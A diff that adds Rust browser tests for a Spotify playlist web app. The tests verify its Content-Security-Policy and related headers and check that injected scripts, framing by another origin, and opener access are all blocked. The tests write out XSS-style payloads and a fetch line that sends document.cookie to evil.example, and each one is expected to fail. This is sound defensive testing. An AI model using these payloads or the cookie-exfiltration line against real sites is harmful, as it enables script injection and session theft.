@@ -1,0 +1,177 @@
+//! The page's own policy: what it ships with, and that browsers hold to it.
+
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpListener;
+
+use crate::harness::{Browser, journey};
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_page_ships_with_the_whole_policy() {
+    journey(async |stage| {
+        let service = &stage.emulator.service;
+        for path in ["/", "/library", "/playlists/x", "/connect", "/callback", "/callback?code=a&state=b", "/nowhere", "/index.html", "/404.html"] {
+            let answer = reqwest::get(format!("{}{path}", stage.emulator.site)).await.unwrap();
+            let header = |name: &str| answer.headers().get(name).map(|value| value.to_str().unwrap().to_owned()).unwrap_or_default();
+            assert!(header("content-type").starts_with("text/html"), "{path}");
+            let policy = header("content-security-policy");
+            let directive = |name: &str| {
+                let found = policy.split(';').map(str::trim).find_map(|one| one.strip_prefix(name));
+                found.unwrap_or_else(|| panic!("{path}: no {name} in {policy}")).trim().to_owned()
+            };
+            for none in ["default-src", "base-uri", "form-action", "object-src", "frame-ancestors"] {
+                assert_eq!(directive(none), "'none'", "{path} {none}");
+            }
+            let scripts = directive("script-src");
+            assert!(scripts.starts_with("'self' 'wasm-unsafe-eval' 'sha256-"), "{scripts}");
+            assert!(!scripts.contains("unsafe-inline") && !scripts.contains("'unsafe-eval'"), "{scripts}");
+            assert_eq!(directive("style-src"), "'self'");
+            assert_eq!(directive("require-trusted-types-for"), "'script'");
+            assert_eq!(directive("trusted-types"), "default");
+            // As shipped but for one thing: the emulator stands in Spotify's place.
+            assert_eq!(directive("connect-src"), format!("'self' {service} {service}"));
+            assert_eq!(header("referrer-policy"), "no-referrer");
+            assert_eq!(header("x-content-type-options"), "nosniff");
+            assert_eq!(header("cross-origin-opener-policy"), "same-origin");
+            for feature in ["camera", "microphone", "geolocation", "payment", "usb"] {
+                assert!(header("permissions-policy").contains(&format!("{feature}=()")), "{feature}");
+            }
+            let page = answer.text().await.unwrap();
+            assert!(page.contains("Content-Security-Policy"), "{path}: also in the page itself, for hosts without headers");
+        }
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn injected_script_does_not_run() {
+    journey(async |stage| {
+        let tab = &stage.tab;
+        tab.open("/").await;
+        tab.sees("with nobody").await;
+        for part in ["Content Security Policy", "Content-Security-Policy", "TrustedScript", "TrustedHTML", "Trusted Type"] {
+            stage.console.expect(part);
+        }
+        // Run by the driver, which stands outside the page's policy; what they put into the page does not.
+        for attempt in [
+            "const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s)",
+            "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
+            "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)",
+            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
+            "const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click()",
+            "const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click()",
+            "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit=1</script>'; document.body.append(f)",
+            "window.setTimeout('window.hit = 1', 0)",
+        ] {
+            tab.js(&format!("try {{ {attempt} }} catch (error) {{}}")).await;
+        }
+        // What would run late has run by the time a timer set after it has.
+        let hit = tab.driver().execute_async("setTimeout(arguments[0], 300)", Vec::<Value>::new()).await;
+        assert!(hit.is_ok(), "{hit:?}");
+        assert_eq!(tab.js("return window.hit ?? 'no'").await, "no");
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_page_talks_to_nobody_else() {
+    journey(async |stage| {
+        let tab = &stage.tab;
+        stage.signed_in().await;
+        tab.press("Playlists").await;
+        tab.press_among(".index li a", "Slow trains, wide windows").await;
+        tab.sees("50 of 312").await;
+        let asked: Vec<String> = serde_json::from_value(tab.js("return performance.getEntriesByType('resource').map(entry => entry.name)").await).unwrap();
+        assert!(asked.len() > 10, "{asked:?}");
+        for address in asked {
+            let ours = address.starts_with(&stage.emulator.site) || address.starts_with(&stage.emulator.service);
+            assert!(ours, "{address}");
+        }
+        // And could not if it wanted to.
+        stage.console.expect("https://evil.example");
+        stage.console.expect("Content Security Policy");
+        stage.console.expect("Content-Security-Policy");
+        let refused = tab
+            .driver()
+            .execute_async(
+                "const done = arguments[0]; fetch('https://evil.example/?' + document.cookie).then(() => done('sent'), error => done('refused'))",
+                Vec::<Value>::new(),
+            )
+            .await
+            .unwrap();
+        assert_eq!(*refused.json(), json!("refused"));
+    })
+    .await;
+}
+
+/// Serves one page, with whatever is in it, at an origin of its own.
+async fn another_site(page: String) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let origin = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let _ = stream.read(&mut [0; 4096]).await;
+            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
+            let _ = stream.write_all(format!("{head}Content-Length: {}\r\n\r\n{page}", page.len()).as_bytes()).await;
+        }
+    });
+    origin
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn another_site_cannot_frame_the_page() {
+    journey(async |stage| {
+        let tab = &stage.tab;
+        stage.console.expect("frame-ancestors");
+        stage.console.expect("favicon.ico");
+        if Browser::of_this_run() == Browser::Firefox {
+            // The page around has no style and no doctype, which Firefox remarks on.
+            stage.console.expect("Quirks Mode");
+            stage.console.expect("character encoding");
+        }
+        let origin = another_site(format!("<!doctype html><meta charset=utf-8><title>x</title><iframe src=\"{}/library\"></iframe>", stage.emulator.site)).await;
+        tab.go(&origin).await;
+        tab.until_js("the frame to be done", "return document.readyState === 'complete'").await;
+        let log = stage.emulator.log().await;
+        let site = log.at_site();
+        assert_eq!(site.len(), 1, "the page was asked for and nothing in it was run:\n{log}");
+        assert_eq!((site[0].path.as_str(), site[0].sec_fetch_dest.as_deref()), ("/library", Some("iframe")));
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn another_site_that_opens_the_page_gets_no_hold_of_it() {
+    journey(async |stage| {
+        let tab = &stage.tab;
+        let origin = another_site(format!("<!doctype html><meta charset=utf-8><title>x</title><button onclick=\"window.other = open('{}/')\">Open</button>", stage.emulator.site)).await;
+        stage.console.expect("favicon.ico");
+        tab.go(&origin).await;
+        tab.press("Open").await;
+        // With COOP the opener sees a window that is closed to it.
+        tab.until_js("the opened window to be out of reach", "return window.other?.closed === true").await;
+        let windows = tab.driver().windows().await.unwrap();
+        assert_eq!(windows.len(), 2);
+        tab.driver().switch_to_window(windows[1].clone()).await.unwrap();
+        tab.sees("with nobody").await;
+        assert_eq!(tab.js("return window.opener").await, Value::Null);
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn opened_as_localhost_it_moves_to_the_address_spotify_accepts() {
+    journey(async |stage| {
+        let tab = &stage.tab;
+        let named = stage.emulator.site.replace("127.0.0.1", "localhost");
+        tab.go(&format!("{named}/playlists?view=grid#row9")).await;
+        tab.arrives_at("/playlists?view=grid#row9").await;
+        tab.sees("Sign in to see this").await;
+        tab.press("Sign in at Spotify").await;
+        tab.log_in_as("ines").await;
+        tab.agree().await;
+        tab.arrives_at("/playlists?view=grid#row9").await;
+        tab.sees("Slow trains, wide windows").await;
+    })
+    .await;
+}
